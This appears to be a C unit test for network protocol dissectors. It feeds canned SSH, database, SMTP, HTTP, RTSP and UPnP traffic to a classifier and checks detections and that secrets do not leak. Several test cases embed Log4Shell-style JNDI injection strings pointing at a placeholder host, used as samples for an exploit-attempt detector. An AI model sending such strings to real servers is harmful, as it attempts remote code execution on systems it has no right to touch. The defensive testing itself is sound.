/* SPDX-License-Identifier: Apache-2.0 */
/* signs - what only rules ask for: one that tells it and one near it that does
 * not, for each word; never whose it is. */
#include "tests/unit/classify/proto/play.h"

extern const struct dissector dissector_http;
extern const struct dissector dissector_mysql;
extern const struct dissector dissector_postgresql;
extern const struct dissector dissector_rtsp;
extern const struct dissector dissector_smtp;
extern const struct dissector dissector_ssh;
extern const struct dissector dissector_tds;

static const struct turn ssh_weak[] = {
	SAYS(SERVER,
	     "SSH-2.0-x_1\x0d\x0a"),
	SAYS(SERVER,
	     "\x00\x00\x00\xaf\x04\x14RRRRRRRRRRRRRRRR\x00\x00\x00" "7"
	     "diffie-hellman-group1-sha1,kex-strict-s-v00@openssh.com"
	     "\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x0a" "aes128-ctr\x00"
	     "\x00\x00\x0a" "aes128-ctr\x00\x00\x00\x09hmac-sha1\x00"
	     "\x00\x00\x09hmac-sha1\x00\x00\x00\x04none\x00\x00\x00"
	     "\x04none\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00"),
};

static const struct turn ssh_strong[] = {
	SAYS(SERVER,
	     "SSH-2.0-x_1\x0d\x0a"),
	SAYS(SERVER,
	     "\x00\x00\x00\xa4\x04\x14RRRRRRRRRRRRRRRR\x00\x00\x00,cur"
	     "ve25519-sha256,diffie-hellman-group1-sha1\x00\x00\x00"
	     "\x07ssh-rsa\x00\x00\x00\x0a" "aes128-ctr\x00\x00\x00\x0a"
	     "" "aes128-ctr\x00\x00\x00\x09hmac-sha1\x00\x00\x00\x09hm"
	     "ac-sha1\x00\x00\x00\x04none\x00\x00\x00\x04none\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00"),
};

static const struct turn tds_sa[] = {
	SAYS(CLIENT,
	     "\x10\x01\x00n\x00\x00\x01\x00" "f\x00\x00\x00\x04\x00"
	     "\x00t\x00\x10\x00\x00\x07\x00\x00\x00\x01\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x09\x04"
	     "\x00\x00^\x00\x02\x00" "b\x00\x02\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00P\x00" "C\x00s\x00" "a\x00"),
};

static const struct turn tds_other[] = {
	SAYS(CLIENT,
	     "\x10\x01\x00n\x00\x00\x01\x00" "f\x00\x00\x00\x04\x00"
	     "\x00t\x00\x10\x00\x00\x07\x00\x00\x00\x01\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x09\x04"
	     "\x00\x00^\x00\x02\x00" "b\x00\x02\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00P\x00" "C\x00s\x00" "b\x00"),
};

static const struct turn tds_old[] = {
	SAYS(CLIENT,
	     "\x12\x01\x00\x1a\x00\x00\x00\x00\x00\x00\x0b\x00\x06\x01"
	     "\x00\x11\x00\x01\xff\x10\x00\x0f\xa0\x00\x00\x00"),
	SAYS(SERVER,
	     "\x04\x01\x00\x1a\x00\x00\x01\x00\x00\x00\x0b\x00\x06\x01"
	     "\x00\x11\x00\x01\xff\x0c\x00\x07\xd0\x00\x00\x00"),
};

static const struct turn mysql_root[] = {
	SAYS(SERVER,
	     "N\x00\x00\x00\x0a" "5.7.44-log\x00\x08\x00\x00\x00" "abc"
	     "defgh\x00\xff\xf7!\x02\x00\xff\x81\x15\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00" "abcdefghijkl\x00mysql_native_"
	     "password\x00"),
	SAYS(CLIENT,
	     ":\x00\x00\x01\x85\xa6\x0f\x00\x00\x00\x00\x01!\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00root\x00\x14pppppppppppppppp"
	     "pppp"),
};

static const struct turn mysql_other[] = {
	SAYS(SERVER,
	     "N\x00\x00\x00\x0a" "5.7.44-log\x00\x08\x00\x00\x00" "abc"
	     "defgh\x00\xff\xf7!\x02\x00\xff\x81\x15\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00" "abcdefghijkl\x00mysql_native_"
	     "password\x00"),
	SAYS(CLIENT,
	     "<\x00\x00\x01\x85\xa6\x0f\x00\x00\x00\x00\x01!\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	     "\x00\x00\x00\x00\x00\x00\x00rooter\x00\x14pppppppppppppp"
	     "pppppp"),
};

static const struct turn pg_admin[] = {
	SAYS(CLIENT,
	     "\x00\x00\x00\"\x00\x03\x00\x00user\x00postgres\x00" "dat"
	     "abase\x00x\x00\x00"),
};

static const struct turn pg_other[] = {
	SAYS(CLIENT,
	     "\x00\x00\x00#\x00\x03\x00\x00user\x00postgresx\x00" "dat"
	     "abase\x00x\x00\x00"),
};

static const struct turn mail[] = {
	SAYS(SERVER,
	     "220 mail.hosp.example ESMTP\x0d\x0a"),
	SAYS(CLIENT,
	     "EHLO us.hosp.example\x0d\x0a"),
	SAYS(CLIENT,
	     "MAIL FROM:<CANARY@hosp.example>\x0d\x0a"),
};

static const struct turn no_mail[] = {
	SAYS(SERVER,
	     "220 mail.hosp.example ESMTP\x0d\x0a"),
	SAYS(CLIENT,
	     "EHLO us.hosp.example\x0d\x0a"),
	SAYS(CLIENT,
	     "QUIT\x0d\x0a"),
};

static const struct turn bearer[] = {
	SAYS(CLIENT,
	     "GET /x HTTP/1.1\x0d\x0a" "Authorization: Bearer CANARY"
	     "\x0d\x0a\x0d\x0a"),
};

static const struct turn session[] = {
	SAYS(CLIENT,
	     "GET /x HTTP/1.1\x0d\x0a" "Cookie: JSESSIONID=CANARY\x0d"
	     "\x0a\x0d\x0a"),
};

static const struct turn language[] = {
	SAYS(CLIENT,
	     "GET /x HTTP/1.1\x0d\x0a" "Cookie: lang=CANARY\x0d\x0a"
	     "\x0d\x0a"),
};

static const struct turn console[] = {
	SAYS(CLIENT,
	     "GET /app/explorer.html HTTP/1.1\x0d\x0aHost: x\x0d\x0a"
	     "\x0d\x0a"),
	SAYS(SERVER,
	     "HTTP/1.1 200 OK\x0d\x0a" "Content-Length: 0\x0d\x0a\x0d"
	     "\x0a"),
};

static const struct turn console_login[] = {
	SAYS(CLIENT,
	     "GET /app/explorer.html HTTP/1.1\x0d\x0a" "Authorization:"
	     " Basic CANARY\x0d\x0a\x0d\x0a"),
	SAYS(SERVER,
	     "HTTP/1.1 200 OK\x0d\x0a" "Content-Length: 0\x0d\x0a\x0d"
	     "\x0a"),
};

static const struct turn console_refused[] = {
	SAYS(CLIENT,
	     "GET /app/explorer.html HTTP/1.1\x0d\x0aHost: x\x0d\x0a"
	     "\x0d\x0a"),
	SAYS(SERVER,
	     "HTTP/1.1 401 No\x0d\x0a" "Content-Length: 0\x0d\x0a\x0d"
	     "\x0a"),
};

static const struct turn jndi[] = {
	SAYS(CLIENT,
	     "GET /x HTTP/1.1\x0d\x0aUser-Agent: ${jndi:ldap://CANARY/"
	     "a}\x0d\x0a\x0d\x0a"),
};

static const struct turn jndi_target[] = {
	SAYS(CLIENT,
	     "GET /x?q=$%7Bjndi:ldap://CANARY/a%7D HTTP/1.1\x0d\x0a\x0d\x0a"),
};

static const struct turn jndi_form[] = {
	SAYS(CLIENT,
	     "POST /login HTTP/1.1\x0d\x0a" "Content-Type: application/x-www-"
	     "form-urlencoded\x0d\x0a" "Content-Length: 44\x0d\x0a\x0d\x0a"
	     "u=jndi&n=%24%7Bjndi%3Aldap%3A%2F%2FCANARY%7D"),
};

static const struct turn no_jndi[] = {
	SAYS(CLIENT,
	     "GET /x?q=jndi&r={jndi} HTTP/1.1\x0d\x0aUser-Agent: "
	     "jndi:ldap tester\x0d\x0a\x0d\x0a"),
};

static const struct turn mapping[] = {
	SAYS(CLIENT,
	     "POST /ctl HTTP/1.1\x0d\x0aSOAPAction: \"urn:schemas-upnp"
	     "-org:service:WANIPConnection:1#AddPortMapping\"\x0d\x0a"
	     "" "Content-Length: 0\x0d\x0a\x0d\x0a"),
};

static const struct turn no_mapping[] = {
	SAYS(CLIENT,
	     "POST /ctl HTTP/1.1\x0d\x0aSOAPAction: \"urn:schemas-upnp"
	     "-org:service:WANIPConnection:1#GetStatusInfo\"\x0d\x0a"
	     "" "Content-Length: 0\x0d\x0a\x0d\x0a"),
};

static const struct turn rtp[] = {
	SAYS(CLIENT,
	     "SETUP rtsp://10.0.0.2/CANARY RTSP/1.0\x0d\x0a" "CSeq: 3"
	     "\x0d\x0aTransport: RTP/AVP;unicast\x0d\x0a\x0d\x0a"),
	SAYS(SERVER,
	     "RTSP/1.0 200 OK\x0d\x0a" "CSeq: 3\x0d\x0aTransport: RTP/"
	     "AVP;unicast\x0d\x0a\x0d\x0a"),
};

static const struct turn srtp[] = {
	SAYS(CLIENT,
	     "SETUP rtsp://10.0.0.2/CANARY RTSP/1.0\x0d\x0a" "CSeq: 3"
	     "\x0d\x0aTransport: RTP/AVP;unicast\x0d\x0a\x0d\x0a"),
	SAYS(SERVER,
	     "RTSP/1.0 200 OK\x0d\x0a" "CSeq: 3\x0d\x0aTransport: RTP/"
	     "SAVP;unicast\x0d\x0a\x0d\x0a"),
};

#define ROW(name, port, turns, side, attr, said)                               \
	{&dissector_##name, port, turns, sizeof(turns) / sizeof((turns)[0]),   \
	 side, A_##attr, said}

static const struct {
	const struct dissector *by;
	uint16_t port;
	const struct turn *turn;
	size_t turns;
	enum side about;
	enum attr attr;
	const char *said;      /* NULL: nothing; "1": the number               */
} rows[] = {
	ROW(ssh, 22, ssh_weak, SERVER, ssh_weak, "kex"),
	ROW(ssh, 22, ssh_strong, SERVER, ssh_weak, NULL),
	ROW(tds, 1433, tds_sa, SERVER, database_admin, "tds"),
	ROW(tds, 1433, tds_other, SERVER, database_admin, NULL),
	ROW(tds, 1433, tds_old, SERVER, database_version,
	    "Microsoft SQL Server 12.0.2000"),
	ROW(mysql, 3306, mysql_root, SERVER, database_admin, "mysql"),
	ROW(mysql, 3306, mysql_other, SERVER, database_admin, NULL),
	ROW(postgresql, 5432, pg_admin, SERVER, database_admin, "postgresql"),
	ROW(postgresql, 5432, pg_other, SERVER, database_admin, NULL),
	ROW(smtp, 25, mail, CLIENT, mail_clear, "1"),
	ROW(smtp, 25, no_mail, CLIENT, mail_clear, NULL),
	ROW(http, 80, bearer, SERVER, http_session_clear, "bearer"),
	ROW(http, 80, session, SERVER, http_session_clear, "cookie"),
	ROW(http, 80, language, SERVER, http_session_clear, NULL),
	ROW(http, 80, console, SERVER, console_open, "1"),
	ROW(http, 80, console_login, SERVER, console_open, NULL),
	ROW(http, 80, console_refused, SERVER, console_open, NULL),
	ROW(http, 80, jndi, CLIENT, exploit_tried, "jndi"),
	ROW(http, 80, jndi_target, CLIENT, exploit_tried, "jndi"),
	ROW(http, 80, jndi_form, CLIENT, exploit_tried, "jndi"),
	ROW(http, 80, no_jndi, CLIENT, exploit_tried, NULL),
	ROW(http, 80, language, CLIENT, exploit_tried, NULL),
	ROW(http, 80, mapping, CLIENT, port_mapping, "1"),
	ROW(http, 80, no_mapping, CLIENT, port_mapping, NULL),
	ROW(rtsp, 554, rtp, SERVER, rtsp_clear, "1"),
	ROW(rtsp, 554, srtp, SERVER, rtsp_clear, NULL),
};

static void each_word_is_told_by_its_sign_alone(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct trial *t = play(rows[i].by, rows[i].port, rows[i].turn,
				       rows[i].turns, 0);

		if (rows[i].said == NULL) {
			assert_null(trial_text(t, rows[i].about, rows[i].attr));
			assert_int_equal(trial_word(t, rows[i].about,
						    rows[i].attr), UINT64_MAX);
		} else if (strcmp(rows[i].said, "1") == 0) {
			assert_int_equal(trial_word(t, rows[i].about,
						    rows[i].attr), 1);
		} else {
			assert_said(trial_text(t, rows[i].about, rows[i].attr),
				    rows[i].said);
		}
		assert_false(trial_leaks(t, "CANARY"));
		assert_false(trial_leaks(t, "rooter"));
		assert_false(trial_leaks(t, "postgresx"));
		trial_close(t);
	}
}

static void none_of_them_minds_how_it_arrives(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		bears_anything(rows[i].by, rows[i].port, rows[i].turn,
			       rows[i].turns);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_word_is_told_by_its_sign_alone),
		cmocka_unit_test(none_of_them_minds_how_it_arrives),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
